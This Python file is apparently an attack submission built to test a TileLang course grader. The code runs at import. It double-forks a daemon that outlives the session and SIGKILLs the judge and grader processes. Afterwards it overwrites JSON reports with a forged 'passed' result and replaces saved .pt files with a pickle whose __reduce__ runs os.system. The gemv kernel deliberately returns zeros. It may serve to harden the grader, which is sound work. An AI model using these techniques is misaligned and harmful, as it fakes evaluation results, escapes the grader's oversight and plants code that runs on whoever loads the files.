"""Attack: kill the judge so its cleanup never runs, after leaving a daemon that outlives it. The daemon
(double-forked, its own session) waits for the grader to finish, then rewrites every --json report and
every saved failure it can find with a forged pass and a pickle that runs a command when loaded. The
judge is found as the tracer's parent, and as every process whose command line names the grader."""

import json
import os
import signal
import time
from pathlib import Path

import tilelang
import tilelang.language as T

FOLDER = Path(os.environ.get("TILELANG_ATTACK_DIR", "/tmp"))
FORGED = {"results": [{"puzzle": "08", "kernel": "gemv", "case": "square_256", "status": "passed"}]}


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {FOLDER / 'tilelang-course-attack-pickle-ran'}",))


def _forge() -> None:
    import pickle

    for path in FOLDER.rglob("*"):
        try:
            if path.suffix == ".json":
                path.write_text(json.dumps(FORGED))
            elif path.suffix == ".pt":
                path.write_bytes(pickle.dumps(Payload()))
        except OSError:
            pass


def _grader_pids() -> list[int]:
    found = [os.getppid()]
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            words = cmdline.read_bytes().split(b"\0")
        except OSError:
            continue
        if any(b"grader" in w or b"multiprocessing" in w for w in words) and int(cmdline.parent.name) != os.getpid():
            found.append(int(cmdline.parent.name))
    return [p for p in found if p > 1]


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(60):  # for 6 s after the grader has gone
            time.sleep(0.1)
            _forge()
    os._exit(0)
time.sleep(0.2)
for pid in _grader_pids():
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass


@tilelang.jit
def gemv(A, B, BLOCK_M: int, BLOCK_K: int, THREADS: int = 128):
    M, K = T.const("M, K")
    A: T.Tensor((M, K), T.float16)
    B: T.Tensor((K,), T.float16)
    C = T.empty((M,), T.float16)
    with T.Kernel(T.ceildiv(M, BLOCK_M), threads=THREADS) as bx:
        for i in T.Parallel(BLOCK_M):
            C[bx * BLOCK_M + i] = T.float16(0)  # the wrong answer every attack tries to pass off
    return C
